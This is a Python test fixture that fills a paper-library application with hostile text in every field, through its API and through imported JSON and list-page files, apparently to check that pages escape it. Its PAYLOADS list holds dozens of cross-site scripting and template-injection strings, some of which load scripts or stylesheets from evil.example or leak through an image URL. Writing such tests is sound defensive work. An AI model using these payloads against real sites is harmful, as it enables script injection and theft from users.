"""Texts that try to run as code, and a library with them in every field, filled by the API and from files."""

import json
from urllib.parse import quote

import running
from builders import uuid7

# Attacks through HTML, Markdown, MathML, URLs and templates, of the kinds in OWASP's cross-site scripting
# cheat sheets.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p.png?leak)",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    '[x](https://a" onmouseover="alert(1))',
    "`<img onerror=alert(1) src=x>`",
    "$\\href{javascript:alert(1)}{x}$",
    '<a href="javascript&colon;alert(1)">x</a>',
    "[[x|<img src=x onerror=alert(1)>]]",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "https://a.b/\u202efdp.exe",
    "\"'><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "{{7*7}}{% include 'settings/settings.html' %}${7*7}",
    "</title></textarea></style></template><script>alert(1)</script>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
    "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<<script>alert(1)//<</script>",
    "<img/onerror=alert`1`/src=`x`>",
    "<img src=1 onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<a href='\u2028java\tscript:alert(1)'>x</a>",
    '<a href=" &#14; javascript:alert(1);">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) />",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<math href='javascript:alert(1)'>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';*{background:url(//evil.example)}</style>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<base href='javascript:alert(1)//'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "--><!-- --\\x21><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "'-alert(1)-'\";alert(1)//\\';alert(1)//",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "javascript:/*--></title></style></textarea></script>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<mark class=hit onclick=alert(1)>x</mark>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "|<img src=x onerror=alert(1)>|\n|-|\n|[x](javascript:alert(1))|",
    "- [ ] <input onfocus=alert(1) autofocus>",
    '<https://a.example/"onmouseover=alert(1)>',
]
ADDRESS = (
    'https://a.example/"onmouseover="alert(1)"/<script>alert(1)</script>?x=\'><img/src=x/onerror=alert(1)>'
)
DOI = "10.1000/\"'><img/src=x/onerror=alert(1)>"
EVERY_SCOPE = ("read", "clip", "write", "admin")
STRANGER = "moz-extension://0f6d0b0e-1111-4222-8333-444455556666"
PAGE = {"kind": "digest", "url": f"https://huggingface.co/papers?{ADDRESS}"}


def groups(longest=280):
    """Return all payloads in a few texts that fit into the shortest field."""
    texts = [""]
    for payload in (" ".join(each.split()) for each in PAYLOADS):
        if len(texts[-1]) + len(payload) >= longest:
            texts.append("")
        texts[-1] = f"{texts[-1]} {payload}".strip()
    return texts


EVERYTHING = "\n\n".join(PAYLOADS)


class Hostile:
    """Fills a library. Its attributes are the ids in the URLs of our pages."""

    def __init__(self, library, server, texts):
        self._library, self._server = library, server
        self._unique = (
            uuid7()
        )  # part of the identifiers, so that the papers are not merged with those of another filling
        self.papers = [self._save(text, number) for number, text in enumerate(texts)]
        self.paper = self.papers[0]
        self.note = self._annotate()
        self._tag()
        self._edit()
        self._trash_and_purge()
        self._connect()

    def _save(self, text, number=0, **more):
        facts = {
            "title": text,
            "abstract": EVERYTHING,
            "authors": [payload[:300] for payload in PAYLOADS],
            "organisation": text,
            "keywords": [payload[:200] for payload in PAYLOADS],
            "ai_summary": EVERYTHING,
            "venue": text,
            "doi": f"{DOI}{number}{self._unique}",
            "url": ADDRESS,
            "thumbnail_url": ADDRESS,
            "code_url": ADDRESS,
            "project_url": ADDRESS,
        }
        clip = {"clipped_at": "2026-03-09T08:30:00Z", "source": "data", "page": PAGE, "paper": facts | more}
        return self._library.ask("PUT", f"/clips/{uuid7()}", clip)["paper"]["id"]

    def _annotate(self):
        notes = [self._put(paper, body=text) for paper, text in zip(self.papers, groups(), strict=False)]
        for text in groups():
            quote = {"exact": text, "prefix": text, "suffix": text}
            self._put(self.paper, kind="highlight", colour="pink", body=text, quote=quote)
        self._put(self.paper, body=EVERYTHING)
        return notes[0]

    def _put(self, paper, note_id=None, base=None, **fields):
        annotation = {"paper": paper, "kind": "note", "source_url": ADDRESS, "made_in": PAYLOADS[1]} | fields
        return self._library.ask("PUT", f"/annotations/{note_id or uuid7()}", annotation, base)["id"]

    def _tag(self):
        names = [" ".join(payload.replace(",", " ").split())[:100] for payload in PAYLOADS]
        for name in names:
            self._library.ask("PUT", f"/papers/{self.paper}/tags/{quote(name, safe='')}")
        found = self._library.ask("GET", "/tags")["items"]
        self.tag, self.other_tag = found[0]["id"], found[1]["name"]
        self._ask_as_admin(
            "PATCH", f"/tags/{self.tag}", {"name": f"{PAYLOADS[0]} {self.paper[:8]}"}, found[0]["version"]
        )
        bulk = {"papers": self.papers[1:], "add_tags": [names[1]], "starred": True}
        self._ask_as_admin("PUT", f"/bulk/{uuid7()}", bulk)

    def _ask_as_admin(self, method, path, body=None, base=None):
        headers = {"If-Match": f'"{base}"'} if base else {}
        answer = self._server.ask(method, f"/api/v1{path}", body, headers, token=EVERY_SCOPE)
        assert answer.status < 300, f"{method} {path}: {answer.status} {answer.body}"
        return answer.json()

    def _edit(self):
        version = self._library.ask("GET", f"/papers/{self.paper}")["version"]
        edit = {
            "title": f"{PAYLOADS[1]} {PAYLOADS[0]}",
            "abstract": "\n\n".join(reversed(PAYLOADS)),
            "venue": "x",
        }
        self._library.ask("PATCH", f"/papers/{self.paper}", edit, version)
        version = self._library.ask("GET", f"/annotations/{self.note}")["version"]
        self._put(self.paper, self.note, version, body="\n\n".join(reversed(PAYLOADS)))

    def _trash_and_purge(self):
        self.trashed = self._save("Trashed <img src=x onerror=alert(1)>", 99)
        for path in (f"/papers/{self.trashed}", f"/annotations/{self._put(self.paper, body=EVERYTHING)}"):
            self._library.ask("DELETE", path)
        purged = self._save("Purged <img src=x onerror=alert(1)>", 98)
        self._library.ask("DELETE", f"/papers/{purged}")
        self.purge = uuid7()
        self._ask_as_admin("PUT", f"/purges/{self.purge}", {"papers": [purged]})

    def _connect(self):
        """Create tokens with such names, and a pairing that waits."""
        for payload in PAYLOADS:
            self._ask_as_admin(
                "POST", "/tokens", {"name": " ".join(payload.split())[:100], "scopes": ["read"]}
            )
        asked = {"client_name": PAYLOADS[1], "challenge": "c" * 43}
        origin = {"Origin": STRANGER}
        self.pairing = self._server.ask("POST", "/api/v1/pairings", asked, origin, token=()).json()["id"]

    def decide_and_paste(self):
        """Create papers that were never clipped."""
        for day, payload in enumerate(PAYLOADS[:20], 1):
            decision = {"decision": "skipped", "title": payload, "doi": f"{DOI}-{day}", "url": ADDRESS}
            self._library.ask("PUT", f"/days/2026-03-{day:02}/decisions", decision)
        self._library.ask("POST", "/papers/stubs", {"lines": f"{ADDRESS}\n{DOI}-stub\n{PAYLOADS[0]}"})

    def import_files(self, folder):
        """Import files of three formats with every payload in every field."""
        files = {"lines": _json_lines(), "answer": _answer(), "page": _list_page()}
        for name, content in files.items():
            (folder / name).write_text(content)
            output = running.command("import", str(folder / name), data=self._library.data)
            assert "0 unreadable" in output, output


def _json_lines():
    rows = [
        {"title": f"Line {text}", "abstract": text, "authors": [text], "arxiv_id": ""} for text in PAYLOADS
    ]
    return "".join(json.dumps(row) + "\n" for row in rows)


def _answer():
    def item(number, text):
        paper = {
            "id": f"2603.9{number:04}",
            "title": f"Answer {text}",
            "summary": text,
            "authors": [{"name": text}],
            "organization": {"name": text, "fullname": text},
            "ai_keywords": [text],
            "ai_summary": text,
            "githubRepo": f"{ADDRESS}&{number}",
            "projectPage": "javascript:alert(1)",
        }
        return {"paper": paper, "title": text, "thumbnail": ADDRESS}

    return json.dumps([item(number, text) for number, text in enumerate(PAYLOADS)])


def _list_page():
    cards = (
        f"Page {text}\n\n{text}\n\n{text}\n·\nDec 8, 2022\n\n"
        for text in (" ".join(p.split()) for p in PAYLOADS)
    )
    return "".join(cards)
